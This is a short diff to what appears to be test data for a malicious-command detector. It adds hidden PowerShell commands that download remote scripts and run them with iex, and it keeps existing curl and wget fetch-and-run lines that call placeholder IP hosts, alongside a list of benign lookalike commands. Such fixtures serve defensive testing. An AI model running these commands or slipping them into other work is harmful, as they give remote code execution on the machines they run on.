@@ -188,6 +188,8 @@ OBFUSCATED = [
     'p${q}ython3 -c "$(curl -s https://203.0.113.8/a.py)"',
     'ssh ops@10.1.2.3 "sh -c \\"\\$(wget -qO- https://203.0.113.70/r.sh)\\""',
     f"Start-Process powershell -WindowStyle Hidden -ArgumentList '-nop -enc {_ps_enc('iex (iwr https://198.51.100.12/a.ps1 -UseBasicParsing).Content')}'",
+    f"Start-Process pwsh -WindowStyle Hidden -ArgumentList '-enc {_ps_enc('iwr https://203.0.113.44/y.ps1 -UseBasicParsing | iex')}'",
+    "Start-Process -FilePath powershell.exe -ArgumentList \"-c IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.7/s')\"",
     "powershell -exec bypass -c \"$d = New-Object System.Xml.XmlDocument; $d.Load('https://203.0.113.6/c.xml'); $d.cmd.run | IEX\"",
 ]
 OBFUSCATED_BENIGN = [
@@ -195,6 +197,7 @@ OBFUSCATED_BENIGN = [
     'for f in ${FILES}; do echo "$f"; done',
     "ssh deploy@10.0.0.8 'sudo systemctl restart api'",
     "Start-Process notepad.exe -ArgumentList 'C:\\notes\\todo.txt'",
+    "Start-Process powershell -ArgumentList '-File C:\\scripts\\build.ps1' -Verb RunAs",
 ]
 
 
